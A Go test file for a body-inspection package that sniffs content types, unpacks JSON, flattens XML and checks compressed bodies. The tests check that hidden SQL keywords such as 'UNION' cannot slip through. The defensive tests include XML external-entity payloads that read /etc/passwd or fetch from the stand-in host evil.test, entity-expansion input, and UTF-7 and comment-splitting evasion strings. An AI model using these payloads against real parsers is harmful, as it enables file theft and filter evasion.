package reading

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/klauspost/compress/zstd"
)

func utf16be(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u >> 8))
		b.WriteByte(byte(u))
	}
	return b.String()
}

func TestSniff(t *testing.T) {
	for _, c := range []struct {
		name, head string
		want       Kind
	}{
		{"nothing", "", Text},
		{"JSON", `{"q":1}`, JSON},
		{"JSON with a mark and space before it", "\xef\xbb\xbf \r\n\t[1]", JSON},
		{"JSON with a zero after it", "{\"q\":1}\x00", JSON},
		{"XML", "\n<a/>", XML},
		{"a form", "q=1&b=%00", Text},
		{"a string", `"a"`, Text},
		{"text whose last character is cut", "Gr\xc3", Text},
		{"text in Latin-1", "Gr\xfc\xdfe", Binary},
		{"JSON in UTF-16", utf16be(` {"q":1}`), Wide},
		{"JSON in UTF-16 with a mark", "\xfe\xff" + utf16be(`["q"]`), Wide},
		{"JSON in UTF-32", "\x00\x00\x00{\x00\x00\x00\"", Wide},
		{"JSON in UTF-32, the other way round, with a mark", "\xff\xfe\x00\x00{\x00\x00\x00\"\x00\x00\x00", Wide},
		{"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", Binary},
		{"JPEG", "\xff\xd8\xff\xe0\x00\x10JFIF", Binary},
		{"GIF", "GIF89a\x01\x00\x01\x00", Binary},
		{"PDF", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", Binary},
		{"ZIP", "PK\x03\x04\x14\x00", Binary},
		{"gzip", "\x1f\x8b\x08\x00", Binary},
		{"MP4", "\x00\x00\x00 ftypisom", Binary},
		{"TrueType", "\x00\x01\x00\x00\x00\x0f", Binary},
		{"WebAssembly", "\x00asm\x01\x00\x00\x00", Binary},
		{"gRPC", "\x00\x00\x00\x00\x05\n\x03ann", Binary},
		{"gRPC of 32 KB", "\x00\x00\x00{\x00\n\xfdann", Binary},
		{"protobuf", "\n\x03ann\x10\x01", Binary},
		{"CBOR", "\xa1aq\x01", Binary},
	} {
		if got := Sniff([]byte(c.head)); got != c.want {
			t.Errorf("%s is %d, want %d", c.name, got, c.want)
		}
	}
}

// TestDecided: what is called binary early stays so, however it goes on.
func TestDecided(t *testing.T) {
	for _, more := range []string{utf16be(`{"q":1}`), utf16be(` {"q":1}`), "\xfe\xff" + utf16be(`{"q":1}`), "\x00\x00\x00{\x00\x00\x00\""} {
		for n := range len(more) {
			if head := []byte(more[:n]); Decided(head) && Sniff(head) == Binary {
				t.Errorf("%q is decided, and goes on to be %q", head, more)
			}
		}
	}
	if !Decided([]byte("\x89P")) {
		t.Error("a stream has to wait for more of a PNG")
	}
}

func TestValues(t *testing.T) {
	for _, c := range []struct{ name, body, want string }{
		{"one value", ` {"a":"\u0055"} `, `{"a":"\u0055"}`},
		{"lines of values", "{\"a\":1}\n{\"a\":2}\n", `[{"a":1},{"a":2}]`},
		{"a value and more", `{"a":1} \u0055NION`, `[{"a":1},"UNION"]`},
		{"a zero after it", "[1]\x00", `[[1],"\u0000"]`},
		{"text in brackets", "[ERROR] it broke", ""},
		{"half a value", `{"a":`, ""},
		{"no value", "a", ""},
		{"nothing", "", ""},
	} {
		got, ok := Values([]byte(c.body))
		if string(got) != c.want || ok != (c.want != "") {
			t.Errorf("%s: %s, want %s", c.name, got, c.want)
		}
	}
}

func TestUnescape(t *testing.T) {
	for body, want := range map[string]string{
		`{"q":'\u0055\u004eION'}`: `{"q":'UNION'}`,
		`\ud83d\ude00`:            "\U0001f600",
		`\ud83d \u12`:             "\ufffd \\u12",
		`C:\users`:                `C:\users`,
	} {
		if got := string(Unescape([]byte(body))); got != want {
			t.Errorf("%s: %s, want %s", body, got, want)
		}
	}
}

func TestDocument(t *testing.T) {
	for _, c := range []struct {
		name, body string
		want       []string
	}{
		{"text", "<a>UNION</a>", []string{"UNION"}},
		{"cut by a comment", "<a>UN<!-- x -->ION</a>", []string{"UNION", "UNION"}},
		{"cut by a section", "<a>UN<![CDATA[IO]]>N</a>", []string{"UNION", "UNION"}},
		{"cut by an instruction", "<a>UN<?x y?>ION</a>", []string{"UNION", "UNION"}},
		{"cut by an element", "<a>UN<b>x</b>ION</a>", []string{"x", "UNION", "UNxION"}},
		{"cut into elements", "<a><b>UN</b><b>ION</b></a>", []string{"UN", "ION", "UNION"}},
		{"a reference", "<a>&#85;NION &lt;</a>", []string{"UNION <"}},
		{"an attribute", `<a b="&#85;NION" c=""/>`, []string{"UNION"}},
		{"in Latin-1", "<?xml version='1.0' encoding='ISO-8859-1'?><a>gr\xfcn</a>", []string{"grün"}},
		{"behind the root", "<a>x</a>UNION", []string{"x", "UNION", "xUNION"}},
	} {
		got, err := Document([]byte(c.body), 100)
		if want, _ := list(c.want); err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s: %s %v, want %s", c.name, got, err, want)
		}
	}
	for _, c := range []struct {
		name, body string
		want       error
	}{
		{"an external entity", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, ErrDoctype},
		{"a parameter entity", `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]><a/>`, ErrDoctype},
		{"entities in entities", `<!DOCTYPE a [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><a>&b;</a>`, ErrDoctype},
		{"UTF-7", `<?xml version="1.0" encoding="UTF-7"?><a/>`, ErrEncoding},
		{"UTF-7, with a space that encoding/xml stumbles over", `<?xml version="1.0" encoding = "UTF-7"?><a/>`, ErrEncoding},
		{"UTF-16, declared later", `<a><?xml version="1.0" encoding="utf-16"?></a>`, ErrEncoding},
		{"depth", strings.Repeat("<a>", 65), ErrTooDeep},
		{"elements", "<a>" + strings.Repeat("<b>x</b>", 101) + "</a>", ErrTooMany},
		{"attributes", "<a>" + strings.Repeat("<b c='x'/>", 101) + "</a>", ErrTooMany},
	} {
		if _, err := Document([]byte(c.body), 100); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
	for _, body := range []string{"<a>", "<a></b>", "<a>&x;</a>", "<a b=c/>", "<a>\xff</a>", "<a", "a < b"} {
		var malformed *xml.SyntaxError
		if _, err := Document([]byte(body), 100); !errors.As(err, &malformed) {
			t.Errorf("%s: %v", body, err)
		}
	}
}

// FuzzReading: nothing that is read grows out of bounds, and a word that
// stands in a text of XML is there however it is cut up.
func FuzzReading(f *testing.F) {
	for _, s := range []string{"a", "<!-- x -->", "<![CDATA[x]]>", "<?x y?>", "&amp;", "{}", "[\"\\u0055\"]x", utf16be("{")} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		body := []byte(s)
		Sniff(body)
		if got, ok := Values(body); ok && len(got) > 16*(len(body)+16) {
			t.Errorf("%d bytes become %d", len(body), len(got))
		}
		if got := Unescape(body); len(got) > len(body) {
			t.Errorf("%q becomes %q", body, got)
		}
		got, err := Document(body, 1000)
		if err == nil && len(got) > 16*(len(body)+4096) {
			t.Errorf("%d bytes become %d", len(body), len(got))
		}
		if strings.Contains(s, "<") {
			if got, err := Document([]byte("<a>UN<!--"+s+"-->ION</a>"), 1000); err == nil && !bytes.Contains(got, []byte("UNION")) && !strings.Contains(s, "-->") {
				t.Errorf("%q hides the word: %s", s, got)
			}
		}
	})
}

// TestHides: a content encoding hides no text, whatever the length of its head,
// and a binary body may have one.
func TestHides(t *testing.T) {
	encode := func(wrap func(io.Writer) io.WriteCloser, text string) string {
		var b bytes.Buffer
		w := wrap(&b)
		_, _ = io.WriteString(w, text)
		_ = w.Close()
		return b.String()
	}
	zip := func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }
	named := func(w io.Writer) io.WriteCloser {
		z := gzip.NewWriter(w)
		z.Name = strings.Repeat("n", 2*Head)
		return z
	}
	zl := func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }
	raw := func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 6); return z }
	zst := func(w io.Writer) io.WriteCloser { z, _ := zstd.NewWriter(w); return z }
	const json, image = `{"q":"1"}`, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
	for _, c := range []struct {
		name, encoding, body string
		want                 bool
	}{
		{"JSON in gzip", "gzip", encode(zip, json), true},
		{"much JSON in gzip", " X-GZIP", encode(zip, "["+strings.Repeat(json+",", 2000)+"1]"), true},
		{"behind a long head", "gzip", encode(named, json), true},
		{"JSON in zlib", "deflate", encode(zl, json), true},
		{"JSON in deflate", "deflate", encode(raw, json), true},
		{"JSON in zstd", "zstd", encode(zst, json), true},
		{"twice", "gzip, gzip", encode(zip, encode(zip, json)), true},
		{"brotli", "br", "\x0b\x02\x80", true},
		{"an image in gzip", "gzip", encode(zip, image), false},
		{"an image in zlib", "deflate", encode(zl, image), false},
		{"an image in deflate", "deflate", encode(raw, image), false},
		{"an image in zstd", "zstd", encode(zst, image), false},
		{"not gzip at all", "gzip", image, false},
		{"not zstd at all", "zstd", image, false},
		{"snappy", "snappy", "\x09\x20{\"q\":\"1\"}", false},
	} {
		if got := Hides([]byte(c.body[:min(len(c.body), Head)]), c.encoding); got != c.want {
			t.Errorf("%s: %v", c.name, got)
		}
	}
}
